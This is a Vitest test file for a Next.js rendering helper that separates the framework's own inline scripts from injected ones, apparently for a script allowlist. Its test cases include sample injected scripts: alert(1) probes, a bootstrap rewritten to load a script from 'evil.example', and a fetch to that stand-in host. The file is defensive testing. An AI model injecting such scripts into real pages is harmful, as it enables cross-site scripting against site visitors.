import { readFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { createRequire } from 'node:module';
import { describe, expect, it } from 'vitest';
import { listOwnScripts, REACT_MOVE_SHA256 } from '@/lib/rendering/own-scripts';

const INIT = '(self.__next_f=self.__next_f||[]).push([0])';
const BOOTSTRAP =
  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/3x-1.js"],"runtimeModuleIds":[94553]});';
const EARLY = "document.documentElement.dataset.vision='low'";
const push = (text: string) => `self.__next_f.push(${JSON.stringify([1, text]).replaceAll('<', '\\u003c')})`;
const tag = (script: string, attributes = '') => `<script${attributes}>${script}</script>`;

/** A page as Next writes it: `data` in two pieces, `content` in the body. */
function pageWith(content: string, data = ['0:{"a":"їжак"}\n', '1:["<p>"]\n']) {
  const html = `<!DOCTYPE html><html><head>${tag(EARLY)}<script src="/_next/static/chunks/1.js" async=""></script></head><body>${content}${tag(BOOTSTRAP, ' id="_R_"')}${tag(INIT)}${data.map((piece) => tag(push(piece))).join('')}</body></html>`;
  return { html, data: Buffer.from(data.join('')), own: [EARLY, BOOTSTRAP, INIT, ...data.map(push)] };
}

describe('inline scripts of a rendered page', () => {
  it("allows Next's own scripts and the known constant, and nothing has to be refused", () => {
    const page = pageWith('<h1>Новини</h1>');
    expect(listOwnScripts(page.html, page.data, [EARLY])).toEqual({ own: page.own, refused: [] });
  });

  it.each([
    ['a plain script', 'alert(1)'],
    ['a script that starts like page data', `${push('x')};alert(1)`],
    ['code inside the pushed array', 'self.__next_f.push([1,alert(1)])'],
    ['page data that is not of this page', push('9:["$","script",null,{}]')],
    ['a start of page data with something behind', `${INIT},alert(1)`],
    ['a bootstrap that loads a foreign script', BOOTSTRAP.replace('static/chunks/3x-1.js', '//evil.example/x.js')],
    ['a bootstrap with a call in it', BOOTSTRAP.replace('[94553]', '[alert(1)]')],
    ["a move of React's with code before it", 'alert(1);$RC("B:0","S:0")'],
    ['a script with a nonce of its own', 'fetch("//evil.example")'],
  ])('does not bless %s that stands in the content', (_what, injected) => {
    const page = pageWith(tag(injected, ' nonce="abc"'));
    expect(listOwnScripts(page.html, page.data, [EARLY])).toEqual({ own: page.own, refused: [injected] });
  });

  it('leaves structured data alone: browsers do not run it', () => {
    const page = pageWith(tag('{"@type":"NewsArticle"}', ' type="application/ld+json"'));
    expect(listOwnScripts(page.html, page.data, [EARLY]).refused).toEqual([]);
  });

  it('reads page data that came in bytes', () => {
    const bytes = Buffer.from([0xd1, 0x80, 0xff]);
    const script = `self.__next_f.push([3,"${bytes.toString('base64')}"])`;
    expect(listOwnScripts(tag(INIT) + tag(script), bytes, [])).toEqual({ own: [INIT, script], refused: [] });
  });

  it("knows the installed React's script that moves late content", () => {
    const require = createRequire(import.meta.url);
    const source = readFileSync(
      require.resolve('next/dist/compiled/react-dom/cjs/react-dom-server.node.production.js'),
      'utf8',
    );
    const literal = /completeBoundaryScriptFunctionOnly = stringToPrecomputedChunk\(\s*'((?:[^'\\]|\\.)*)'/.exec(source)?.[1];
    const script = JSON.parse(`"${(literal ?? '').replaceAll('"', '\\"')}"`) as string;
    expect(createHash('sha256').update(script).digest('hex')).toBe(REACT_MOVE_SHA256);
    const move = `${script}$RC("B:0","S:0")`;
    expect(listOwnScripts(tag(move), Buffer.alloc(0), []).own).toEqual([move]);
  });
});
